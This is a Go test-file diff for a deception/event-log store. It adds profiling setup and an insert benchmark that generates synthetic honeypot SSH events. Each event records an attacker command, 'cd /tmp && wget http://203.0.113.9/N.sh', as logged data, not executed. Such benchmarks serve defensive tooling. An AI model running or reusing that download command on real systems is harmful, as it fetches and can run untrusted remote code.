@@ -5,14 +5,18 @@ import (
 	"context"
 	"fmt"
 	"net"
+	"net/netip"
 	"os"
 	"os/exec"
 	"os/signal"
 	"path/filepath"
+	"runtime/debug"
+	"runtime/pprof"
 	"syscall"
 	"testing"
 	"time"
 
+	"github.com/lapwing-defence/lapwing/internal/event"
 	"github.com/lapwing-defence/lapwing/internal/eventlog"
 	"github.com/lapwing-defence/lapwing/internal/eventlog/eventlogtest"
 )
@@ -24,6 +28,13 @@ func TestMain(m *testing.M) {
 	if dir := os.Getenv(storeDir); dir != "" {
 		ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM)
 		defer stop()
+		if file := os.Getenv("LAPWING_TEST_PROFILE"); file != "" {
+			f, _ := os.Create(file)
+			pprof.StartCPUProfile(f)
+			defer pprof.StopCPUProfile()
+		}
+		debug.SetGCPercent(300)
+		debug.SetMemoryLimit(512 << 20)
 		ln, err := net.Listen("unix", filepath.Join(dir, "s"))
 		if err == nil {
 			err = Serve(ctx, Config{Dir: filepath.Join(dir, "d"), Retention: 30 * 24 * time.Hour}, ln, func() error { fmt.Println("ready"); return nil })
@@ -32,6 +43,7 @@ func TestMain(m *testing.M) {
 			fmt.Fprintln(os.Stderr, err)
 			os.Exit(2)
 		}
+		pprof.StopCPUProfile()
 		os.Exit(0)
 	}
 	os.Exit(m.Run())
@@ -39,12 +51,12 @@ func TestMain(m *testing.M) {
 
 // store is a store in a process of its own.
 type store struct {
-	t   *testing.T
+	t   testing.TB
 	dir string
 	cmd *exec.Cmd
 }
 
-func newStore(t *testing.T) *store {
+func newStore(t testing.TB) *store {
 	t.Helper()
 	dir, err := os.MkdirTemp("", "lw") // the path of a socket is short by law
 	if err != nil {
@@ -107,4 +119,40 @@ func TestExternal(t *testing.T) {
 		t.Fatal(err)
 	}
 	eventlogtest.Run(t, c)
+}
+
+func BenchmarkInsert(b *testing.B) {
+	s := newStore(b)
+	c := s.client()
+	ids := event.NewIDs(nil, time.Now)
+	var batch eventlog.Batch
+	n := 0
+	for b.Loop() {
+		batch.Reset()
+		for range 2500 {
+			n++
+			e := event.Event{
+				ID: ids.New(), Time: time.Now(), Ingested: time.Now().Truncate(time.Millisecond), Dataset: "decoy.ssh",
+				Source: netip.MustParseAddrPort("198.51.100.7:51234"), Destination: netip.MustParseAddrPort("192.0.2.10:22"), Transport: "tcp", Protocol: "ssh",
+				User: "root", Observer: "here", Host: "files", Decoy: "ssh", Persona: "debian-server", Connection: ids.New(), Session: ids.New(),
+				Depth: event.DepthAct, CommandLine: fmt.Sprintf("cd /tmp && wget http://203.0.113.9/%d.sh", n), HasExit: true,
+			}
+			e.Describe(event.ActionCommandExecuted)
+			e.Add("process.name", "wget")
+			e.Add("process.working_directory", "/root")
+			e.AddInt("process.pid", 4711)
+			batch.Add(e.AppendJSON(nil), "-")
+		}
+		if err := c.Insert(b.Context(), "m", &batch); err != nil {
+			b.Fatal(err)
+		}
+		if n%100_000 == 0 {
+			if _, err := c.Checkpoint(b.Context(), eventlog.Stretch{Mark: "m"}); err != nil {
+				b.Fatal(err)
+			}
+		}
+	}
+	s.end(syscall.SIGTERM)
+	st := s.cmd.ProcessState
+	b.ReportMetric(float64((st.UserTime()+st.SystemTime()).Microseconds())/float64(n), "CPU-us/event")
 }
